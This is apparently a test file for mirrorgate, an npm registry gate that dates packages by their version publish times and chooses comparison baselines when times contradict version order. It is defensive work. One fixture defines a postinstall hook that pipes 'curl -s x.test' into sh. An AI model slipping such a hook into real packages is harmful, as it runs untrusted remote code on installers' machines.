"""Times from an upstream are evidence, not truth (`gate.packuments.times`, docs/verdicts.md#how-
times-are-read): a package's first publish is the earliest time of a version it lists, never
`created` alone nor a version no longer listed; missing or unreadable times make it young, never
old; times that contradict each other are named; baselines follow version order where the
times contradict it. Through npm and `mirrorgate serve`: tests/e2e/test_release_verdicts.py."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

from mirrorgate.gate import Gated, VersionRecord, gate
from mirrorgate.gate.packuments.times import first_publish, first_publish_of, order_contradicted
from mirrorgate.gate.verdicts.baseline import (
    Baseline,
    Budget,
    History,
    Unsettled,
    Whole,
    choose_baseline,
)
from mirrorgate.gate.verdicts.capabilities import capability_findings
from mirrorgate.moments import iso_now, moment
from mirrorgate.npm.contents import Contents
from mirrorgate.npm.names import parse_name
from mirrorgate.npm.origins import Origin
from mirrorgate.rules import parse_rules
from mirrorgate.rules.release import Release, check_young_package
from tests.servers.packages import make_package, make_version

UPSTREAM = "http://127.0.0.1:9/"
NOW = datetime(2026, 12, 1, tzinfo=UTC)
RULES = parse_rules('[age]\nminimum = "0"\n\n[release]\n', "rules.toml")
WEEK = timedelta(days=7)


def ago(**delta: float) -> str:
    return iso_now(NOW - timedelta(**delta))


def test_first_publish_is_the_earliest_listed_version_not_created_nor_an_unlisted_one() -> None:
    # the attack: `created`, or the time of a version no longer listed, 400 days back makes a
    # two-day-old package "old"
    document = {"versions": {"1.0.0": {}, "1.0.1": {}},
                "time": {"created": ago(days=400), "0.0.1": ago(days=400),
                         "1.0.0": ago(days=2), "1.0.1": ago(hours=3), "modified": ago(hours=3)}}

    found = first_publish_of(None, document)

    assert found.when == moment(ago(days=2))
    assert found.doubts == ()


def test_missing_or_unreadable_times_establish_no_age() -> None:
    listed = {"1.0.0": None, "1.0.1": "yesterday", "1.0.2": 1_700_000_000,
              "1.0.3": "9999-12-31T23:59:59-23:59", "1.0.4": "0001-01-01T00:00:00+01:00"}

    found = first_publish(listed, "9999-12-31T23:59:59-23:59")

    assert found.when is None
    assert found.doubts == ("no version it lists carries a publish time mirrorgate can read, "
                            "so its age cannot be established",)
    assert first_publish_of(None, {"versions": {"1.0.0": {}}, "time": "garbled"}).when is None
    assert first_publish_of(None, {"versions": {"1.0.0": {}}}).when is None


def test_a_version_published_before_the_package_was_created_is_named_and_never_makes_it_older(
        ) -> None:
    found = first_publish({"1.0.0": ago(days=400), "1.0.1": ago(days=1)}, ago(days=2))

    assert found.when == moment(ago(days=2))  # the later of the two: never older
    assert found.doubts == (f"1.0.0 was \"published\" {ago(days=400)[:19]}Z, before the "
                            f"package was created ({ago(days=2)[:19]}Z): its first publish is "
                            "taken as the later",)
    # the control: npm writes `created` a few milliseconds before the first version
    plain = first_publish({"1.0.0": ago(days=40)}, ago(days=40, seconds=0.004))
    assert (plain.when, plain.doubts) == (moment(ago(days=40)), ())


def test_times_that_run_against_version_order_within_a_line_are_named() -> None:
    # a registry stamping each version with the day it copied it (8.54.0 after 8.56.0)
    copied = {"8.54.0": ago(days=20), "8.55.0": ago(days=30), "8.56.0": ago(days=29),
              "8.56.1": ago(days=31), "9.0.0": ago(days=25)}

    found = order_contradicted(copied)

    assert f"8.56.0 was \"published\" {ago(days=29)[:19]}Z, after 8.56.1 ({ago(days=31)[:19]}Z)" \
        in found
    assert f"8.54.0 was \"published\" {ago(days=20)[:19]}Z, after 8.55.0 ({ago(days=30)[:19]}Z)" \
        in found
    # the controls: a backport, a version below the whole history, prereleases, one second
    assert order_contradicted({"1.4.5": ago(days=1), "1.5.0": ago(days=9), "1.4.4": ago(days=20),
                               "0.0.1": ago(minutes=5), "2.0.0-rc.1": ago(days=30),
                               "2.0.0": ago(days=2), "2.0.1": ago(days=2, seconds=1)}) == ()


def test_an_age_the_times_cannot_establish_is_young_for_the_young_package_signal() -> None:
    hooked = Release("1.0.1", Contents(), ("postinstall (node setup.js)",))

    unknown = check_young_package(hooked, None, timedelta(days=30), "30 days", NOW)
    old = check_young_package(hooked, NOW - timedelta(days=400), timedelta(days=30), "30 days",
                              NOW)

    assert unknown is not None
    assert "first publish cannot be established" in unknown.evidence
    assert old is None  # the control: an age the times establish, and old


def test_an_age_the_times_cannot_establish_is_young_for_the_capability_signal() -> None:
    # the default's young-package-capability (issue 55) reads the same first publish: an
    # established release (a baseline found) of a package whose times establish no age is
    # judged alone, as a young one's
    downloads = Release("1.0.1", Contents(), commands={"postinstall": "curl -s x.test | sh"})
    defaults = parse_rules("", "rules.toml").release
    versions = [make_version("timeless", version, size=0, published=NOW - timedelta(days=400))
                for version in ("1.0.0", "1.0.1")]
    document: dict[str, Any] = orjson.loads(orjson.dumps(
        make_package("timeless", versions).packument(UPSTREAM)))
    dated = gate(parse_name("timeless"), None, document, rules=RULES, now=NOW,
                 origin=Origin.of(UPSTREAM))
    timeless = gate(parse_name("timeless"), None, {**document, "time": {}}, rules=RULES,
                    now=NOW, origin=Origin.of(UPSTREAM))
    before = dated.versions["1.0.0"]

    [unknown] = capability_findings(downloads, before, None, timeless, defaults, NOW,
                                    looked=True)
    old = capability_findings(downloads, before, None, dated, defaults, NOW, looked=True)

    assert timeless.first_published is None
    assert unknown.signal == "young-package-capability"
    assert "first publish cannot be established" in unknown.evidence
    assert old == []  # the control: an age the times establish, and old


def scrambled(name: str, fresh: dict[str, timedelta] | None = None) -> Gated:
    """A package a registry in front stamped with the days it copied each version, weeks ago,
    in no order; `fresh`: versions published that long ago, and stamped so."""
    stamps = {"1.0.0": timedelta(days=40), "1.1.0": timedelta(days=52), "1.1.1": timedelta(
        days=60), "1.2.0": timedelta(days=45), "1.2.1": timedelta(days=58)} | (fresh or {})
    versions = [make_version(name, version, size=0, published=NOW - age)
                for version, age in stamps.items()]
    document: dict[str, Any] = orjson.loads(orjson.dumps(
        make_package(name, versions).packument(UPSTREAM)))
    return gate(parse_name(name), None, document, rules=RULES, now=NOW,
                origin=Origin.of(UPSTREAM))


async def walk(packument: Gated | History, version: str, kept: dict[str, bool | None],
               bad: frozenset[str] = frozenset(),
               now: datetime = NOW) -> tuple[Baseline | Unsettled, list[str]]:
    """choose_baseline as the judge runs it, with `kept` verdicts and the times' doubts; a
    release judged first is clean unless in `bad` (and kept so in `kept`)."""
    judged: list[str] = []
    budget = Budget()
    doubts = (Whole(packument) if isinstance(packument, Gated) else packument).doubts()

    async def judge_first(record: VersionRecord) -> bool:
        judged.append(record.version)
        await choose_baseline(packument, record.version, judged=lambda r: kept.get(r.version),
                              judge_first=judge_first, budget=budget, settled_after=WEEK,
                              now=now, doubts=doubts)
        clean = kept[record.version] = record.version not in bad
        return clean

    chosen = await choose_baseline(packument, version, judged=lambda r: kept.get(r.version),
                                   judge_first=judge_first, budget=budget, settled_after=WEEK,
                                   now=now, doubts=doubts)
    return chosen, judged


async def test_where_times_contradict_version_order_the_release_below_is_the_baseline() -> None:
    # by the copy stamps, 1.2.1 was "published" before 1.2.0 and 1.1.1 before everything: a
    # walk by time found only releases never judged, within a week of each other, and
    # stopped unsettled after three reads
    packument = scrambled("copied-kit")

    chosen, judged = await walk(packument, "1.2.1", {})

    assert isinstance(chosen, Baseline)
    assert chosen.record is not None
    assert chosen.record.version == "1.2.0"  # the release below it, public for weeks
    assert judged == []
    assert chosen.doubts  # named: why version order chose it


async def test_two_bad_releases_never_vouch_for_each_other_where_times_contradict_too() -> None:
    # the attacker publishes 1.3.1 before 1.3.0 to make the times contradict: both fresh,
    # both bad. 1.3.1's release below, 1.3.0, is read first, found bad and passed over
    packument = scrambled("copied-kit", {"1.3.0": timedelta(minutes=5),
                                         "1.3.1": timedelta(minutes=8)})

    chosen, judged = await walk(packument, "1.3.1", {}, bad=frozenset({"1.3.0"}))

    assert judged == ["1.3.0"]
    assert isinstance(chosen, Baseline)
    assert chosen.record is not None
    assert (chosen.record.version, chosen.passed_over) == ("1.2.1", ("1.3.0",))


async def test_the_lowest_version_where_times_contradict_is_compared_with_an_older_release(
        ) -> None:
    # below the whole history, with a fresh decoy published before it (out of order, so the
    # times contradict): nothing is below it, so the release published before it that stood
    # public a week is the baseline; the decoy, fresh and never judged, is not read for it
    packument = scrambled("copied-kit", {"0.0.2": timedelta(minutes=9),
                                         "0.0.1": timedelta(minutes=5)})

    chosen, judged = await walk(packument, "0.0.1", {})

    assert judged == []
    assert isinstance(chosen, Baseline)
    assert chosen.record is not None
    assert chosen.record.version == "1.0.0"  # published before it, public for weeks
    decoy_only = scrambled("copied-kit", {"0.0.2": timedelta(minutes=9),
                                          "0.0.1": timedelta(minutes=5)})
    blocked, _ = await walk(decoy_only, "0.0.1", {
        version: False for version in ("1.0.0", "1.1.0", "1.1.1", "1.2.0", "1.2.1")})
    assert isinstance(blocked, Unsettled)  # only the fresh decoy left: refused, never vouched
